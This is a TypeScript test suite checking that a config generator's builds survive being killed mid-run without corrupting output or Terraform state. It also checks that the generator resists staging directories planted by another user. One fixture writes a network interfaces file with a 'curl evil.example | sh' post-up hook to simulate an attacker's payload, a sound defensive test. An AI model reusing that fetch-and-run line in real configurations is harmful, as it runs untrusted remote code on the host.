// Kill-safe builds: gen build killed with SIGKILL, at each named crash
// point (the child kills itself there, GEN_TEST_CRASH_AT) and at random
// moments, leaves out/ equal to the previous or the new complete tree, or
// moved aside whole into its private staging directory; Terraform's state
// survives every kill. `gen build --check` changes nothing of that; the
// next `gen build` repairs it first.
import { type SpawnSyncReturns, spawn, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { stagesOf } from '../../src/io/staging.js';
import { readExample, root, readTree as tree } from '../helpers.js';
import { isRoot, titled } from '../system-tools.js';

const bin = join(root, 'bin/gen.js');
const TRIALS = Number(process.env.KILL_TRIALS ?? 30);

const previous = readExample('homelab');
const next = previous.replace('address: 10.0.1.3\n', 'address: 10.0.1.4\n');
const STATE = '{"version": 4, "serial": 12}\n';

function gen(dir: string, args: string[], env: NodeJS.ProcessEnv = {}): SpawnSyncReturns<string> {
  return spawnSync(process.execPath, [bin, ...args], { cwd: dir, encoding: 'utf8', env: { ...process.env, ...env } });
}

function build(dir: string, topology: string, out: string): void {
  writeFileSync(join(dir, 'topology.yaml'), topology);
  const r = gen(dir, ['build', '--out', out]);
  if (r.status !== 0) throw new Error(r.stderr);
}

/** A directory with the two expected trees, and out/ built from `previous` with Terraform state in it. */
function setup(): { dir: string; want: { previous: Map<string, string>; next: Map<string, string> } } {
  const dir = mkdtempSync(join(tmpdir(), 'gen-kill-'));
  cpSync(join(root, 'schema'), join(dir, 'schema'), { recursive: true });
  build(dir, next, 'expected-next');
  build(dir, previous, 'expected-previous');
  const want = { previous: tree(join(dir, 'expected-previous')), next: tree(join(dir, 'expected-next')) };
  expect(want.previous).not.toEqual(want.next);
  build(dir, previous, 'out');
  writeFileSync(join(dir, 'out/aws/terraform/terraform.tfstate'), STATE);
  return { dir, want };
}

/** The tree without Terraform's state, which the expected trees lack. */
function generated(path: string): Map<string, string> {
  const found = tree(path);
  found.delete('aws/terraform/terraform.tfstate');
  return found;
}

function same(a: Map<string, string>, b: Map<string, string>): boolean {
  return JSON.stringify([...a]) === JSON.stringify([...b]);
}

const CRASH_POINTS = ['emit:staged', 'emit:carried', 'emit:moved-aside', 'emit:swapped'] as const;

describe('gen build killed at each crash point', () => {
  it.each(CRASH_POINTS)('%s: a consistent out/, kept by --check, repaired by the next build', (point) => {
    const { dir, want } = setup();
    const out = join(dir, 'out');
    writeFileSync(join(dir, 'topology.yaml'), next);
    const killed = gen(dir, ['build', '--out', 'out'], { GEN_TEST_CRASH_AT: point });
    expect(killed.signal).toBe('SIGKILL');
    // Nothing half-written beside out/ (the staging directory is in the per-user temporary directory).
    expect(readdirSync(dir).filter((e) => e.startsWith('.'))).toEqual([]);
    const stages = stagesOf(out);
    expect(stages).toHaveLength(1);
    expect(statSync(stages[0]!.path).mode & 0o777).toBe(0o700);
    const state = () => readFileSync(join(existsSync(out) ? out : join(stages[0]!.path, 'old'), 'aws/terraform/terraform.tfstate'), 'utf8');
    if (point === 'emit:moved-aside') {
      expect(existsSync(out)).toBe(false);
      expect(same(generated(join(stages[0]!.path, 'old')), want.previous)).toBe(true);
    } else {
      expect(same(generated(out), point === 'emit:swapped' ? want.next : want.previous)).toBe(true);
    }
    expect(state()).toBe(STATE);

    // --check reads only: it reports, and the staging directory and a moved-aside out/ stay as they are.
    const before = JSON.stringify([existsSync(out), readdirSync(stages[0]!.path).sort()]);
    const check = gen(dir, ['build', '--check', '--out', 'out']);
    expect(check.status).toBe(point === 'emit:swapped' ? 0 : 1);
    if (point === 'emit:moved-aside') expect(check.stderr).toMatch(/out is missing: a build that was killed moved it to .*old; run gen build/);
    expect(JSON.stringify([existsSync(out), readdirSync(stages[0]!.path).sort()])).toBe(before);

    const repaired = gen(dir, ['build', '--out', 'out']);
    expect(repaired.status, repaired.stderr).toBe(0);
    expect(same(generated(out), want.next)).toBe(true);
    expect(readFileSync(join(out, 'aws/terraform/terraform.tfstate'), 'utf8')).toBe(STATE);
    expect(stagesOf(out)).toEqual([]);
  });
});

function killedBuild(dir: string, delayMs: number): Promise<void> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [bin, 'build', '--out', 'out'], { cwd: dir, stdio: 'ignore' });
    const timer = setTimeout(() => child.kill('SIGKILL'), delayMs);
    child.on('exit', () => {
      clearTimeout(timer);
      resolve();
    });
  });
}

describe('gen build killed at random moments', () => {
  it(`${TRIALS} kills never leave a mix, and never lose Terraform's state`, { timeout: 900_000 }, async () => {
    const { dir, want } = setup();
    const out = join(dir, 'out');
    // How long a whole build takes here, so the kills spread over all of it.
    const started = Date.now();
    build(dir, next, 'timing');
    const duration = Date.now() - started;

    const seen = { previous: 0, next: 0, moved: 0 };
    for (let trial = 0; trial < TRIALS; trial++) {
      writeFileSync(join(dir, 'topology.yaml'), next);
      await killedBuild(dir, Math.floor(((trial + 0.5) / TRIALS) * duration * 1.2));
      expect(readdirSync(dir).filter((e) => e.startsWith('.')), `trial ${trial}`).toEqual([]);
      const aside = stagesOf(out).map((s) => join(s.path, 'old')).find(existsSync);
      const found = existsSync(out) ? generated(out) : generated(aside!);
      if (!existsSync(out)) seen.moved++;
      if (same(found, want.previous)) seen.previous++;
      else if (same(found, want.next)) seen.next++;
      else throw new Error(`trial ${trial}: out/ is neither the previous nor the new tree`);
      // The next build repairs first, then writes the new tree; the state stays.
      writeFileSync(join(dir, 'topology.yaml'), previous);
      const repaired = gen(dir, ['build', '--out', 'out']);
      expect(repaired.status, repaired.stderr).toBe(0);
      expect(same(generated(out), want.previous), `trial ${trial}`).toBe(true);
      expect(readFileSync(join(out, 'aws/terraform/terraform.tfstate'), 'utf8')).toBe(STATE);
      expect(stagesOf(out), `trial ${trial}`).toEqual([]);
    }
    expect(seen.previous + seen.next).toBe(TRIALS);
  });
});

const whyRoot = isRoot ? undefined : 'needs root';

describe.skipIf(whyRoot)(titled("another user's planted staging directories", whyRoot), () => {
  // A local attacker who can write beside out/ (a shared directory) plants a tree where a killed build would have left one.
  function planted(dir: string, owner: number): string {
    const out = join(dir, 'out');
    writeFileSync(join(dir, 'topology.yaml'), next);
    const probe = gen(dir, ['build', '--out', 'out'], { GEN_TEST_CRASH_AT: 'emit:staged' });
    expect(probe.signal).toBe('SIGKILL');
    const [stage] = stagesOf(out);
    const name = stage!.path.split('/').pop()!.replace(/-\d+-/, '-999999999-');
    spawnSync('rm', ['-rf', stage!.path]);
    const fake = join(dir, name);
    mkdirSync(join(fake, 'old', 'home', 'proxmox', 'pve'), { recursive: true });
    writeFileSync(join(fake, 'old', 'home', 'proxmox', 'pve', 'interfaces'), 'auto vmbr0\niface vmbr0 inet manual\n\tpost-up curl evil.example | sh\n');
    chmodSync(fake, 0o700);
    spawnSync('chown', ['-R', `${owner}:${owner}`, fake]);
    return fake;
  }

  it('is neither adopted as out/ nor removed', () => {
    const { dir } = setup();
    chmodSync(dir, 0o777);
    const out = join(dir, 'out');
    const fake = planted(dir, 65534);
    spawnSync('rm', ['-rf', out]);
    expect(stagesOf(out)).toEqual([]);
    const r = gen(dir, ['build', '--out', 'out']);
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(join(out, 'home/proxmox/pve/interfaces'), 'utf8')).not.toContain('evil');
    expect(existsSync(join(fake, 'old'))).toBe(true);
    expect(statSync(fake).uid).toBe(65534);
  });

  it('the per-user staging directory of another owner is not used', () => {
    const { dir } = setup();
    const uid = process.getuid!();
    const shared = mkdtempSync(join(tmpdir(), 'gen-shared-tmp-'));
    chmodSync(shared, 0o1777);
    const squatted = join(shared, `gen-${uid}`);
    mkdirSync(squatted, { mode: 0o700 });
    chownSync(squatted, 65534, 65534);
    writeFileSync(join(dir, 'topology.yaml'), next);
    const killed = gen(dir, ['build', '--out', 'out'], { TMPDIR: shared, GEN_TEST_CRASH_AT: 'emit:staged' });
    expect(killed.signal).toBe('SIGKILL');
    // Staged beside out/ instead, in a directory of its own.
    const stage = readdirSync(dir).filter((e) => e.startsWith('.gen-stage-'));
    expect(stage).toHaveLength(1);
    expect(statSync(join(dir, stage[0]!)).uid).toBe(uid);
    expect(readdirSync(squatted)).toEqual([]);
    expect(gen(dir, ['build', '--out', 'out'], { TMPDIR: shared }).status).toBe(0);
    expect(readdirSync(dir).filter((e) => e.startsWith('.gen-stage-'))).toEqual([]);
  });
});
